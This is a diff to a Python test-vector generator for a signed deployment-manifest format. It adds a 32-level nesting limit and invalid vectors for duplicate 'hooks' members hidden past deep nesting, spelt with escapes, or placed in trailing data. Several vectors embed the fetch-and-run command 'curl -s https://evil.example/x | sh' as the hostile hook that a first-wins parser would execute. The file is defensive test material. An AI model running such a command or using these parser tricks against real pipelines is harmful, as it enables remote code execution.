@@ -188,6 +188,27 @@ def manifest(**changes):
     return m
 
 
+# Objects and arrays may nest at most this deep in a payload, the top-level value being level 1.
+MAX_DEPTH = 32
+
+
+def nested_arrays(n):
+    """n arrays, each inside the one before: [[...]] with n levels."""
+    value = []
+    for _ in range(n - 1):
+        value = [value]
+    return value
+
+
+def depth(value):
+    """Nesting levels of a parsed JSON value: 0 for a scalar, 1 for a flat object or array."""
+    if isinstance(value, dict):
+        return 1 + max((depth(v) for v in value.values()), default=0)
+    if isinstance(value, list):
+        return 1 + max((depth(v) for v in value), default=0)
+    return 0
+
+
 def production(**changes):
     changes.setdefault("environment", "production")
     return manifest(**changes)
@@ -373,6 +394,15 @@ def build():
     vector("accept-pretty-printed-payload",
            "Indented, unsorted JSON: the signed bytes are verified as they are; there is no canonicalisation.",
            envelope(pretty, [ALICE]), accept([ALICE], payload=pretty))
+
+    # The nesting bound (PROTOCOL.md 3.2) is 32 levels, the top-level object being the
+    # first: an unknown member holding 31 nested arrays reaches it exactly.
+    at_limit = encode(manifest(padding=nested_arrays(MAX_DEPTH - 1)))
+    assert depth(json.loads(at_limit)) == MAX_DEPTH
+    vector("accept-nesting-at-the-depth-limit",
+           f"An unknown member holds {MAX_DEPTH - 1} nested arrays, so the payload nests exactly {MAX_DEPTH} "
+           "levels deep (the top-level object is level 1): the most any payload may.",
+           envelope(at_limit, [ALICE]), accept([ALICE], payload=at_limit))
 
     offsets = encode(manifest(issuedAt="2026-11-21T12:30:00.250+01:00", expiresAt="2026-11-28T07:00:00-05:00"))
     vector("accept-timestamps-with-offset-and-fraction",
@@ -633,6 +663,34 @@ def build():
             "'systemctl restart web', a first-wins parser runs 'curl ... | sh': the same signed bytes mean "
             "different things to the reviewer and the agent. A payload with duplicate member names (at any "
             "depth) is invalid.", None, raw=dup)
+    # The same trick past deep nesting: a scanner that gives up on depth and treats "could not
+    # scan" as "no duplicate" lets a decoder with a higher depth limit read the first member.
+    safe_hooks = {"activate": {"command": ["true"]}}
+    evil_hooks = {"activate": {"command": "curl -s https://evil.example/x | sh"}}
+    deep_dup = encode(manifest(hooks=None))[:-1] + b',"padding":' + encode(nested_arrays(511)) + \
+        b',"hooks":' + encode(evil_hooks) + b',"hooks":' + encode(safe_hooks) + b"}"
+    assert json.loads(deep_dup)["hooks"] == safe_hooks
+    invalid("invalid-manifest-duplicate-member-past-deep-nesting",
+            "An unknown member holds 511 nested arrays (512 levels with the top-level object), then the "
+            "payload names 'hooks' twice: the first runs 'curl ... | sh', the last (what a last-wins reader "
+            f"shows a reviewer) runs 'true'. Refused: it nests deeper than {MAX_DEPTH} levels, and a payload "
+            "that cannot be read to its end is never taken to be free of duplicates.", None, raw=deep_dup)
+    too_deep = encode(manifest(padding=nested_arrays(MAX_DEPTH)))
+    assert depth(json.loads(too_deep)) == MAX_DEPTH + 1
+    invalid("invalid-manifest-nesting-too-deep",
+            f"An unknown member holds {MAX_DEPTH} nested arrays: {MAX_DEPTH + 1} levels with the top-level "
+            f"object, one more than the {MAX_DEPTH} a payload may nest, whatever the member.",
+            None, raw=too_deep)
+    escaped_dup = encode(manifest(hooks=None))[:-1] + b',"hooks":' + encode(evil_hooks) + \
+        b',"ho\\u006fks":' + encode(safe_hooks) + b"}"
+    assert json.loads(escaped_dup)["hooks"] == safe_hooks
+    invalid("invalid-manifest-duplicate-member-escaped",
+            "The payload names 'hooks' twice, the second time spelt 'ho\\u006fks': names are compared "
+            "after escapes are resolved, so this is a duplicate too.", None, raw=escaped_dup)
+    invalid("invalid-manifest-trailing-data",
+            "A complete manifest followed by a second JSON object: a payload is exactly one JSON value, "
+            "read to its end (whitespace may follow it, nothing else).", None,
+            raw=staging + b'\n{"hooks":' + encode(evil_hooks) + b"}")
     invalid("invalid-manifest-not-json", "A correctly signed payload that is not JSON at all.", None,
             raw=b"app=web release=2026.11.21-1")
     invalid("invalid-manifest-not-an-object", "A correctly signed payload that is a JSON array.", None, raw=b"[]")
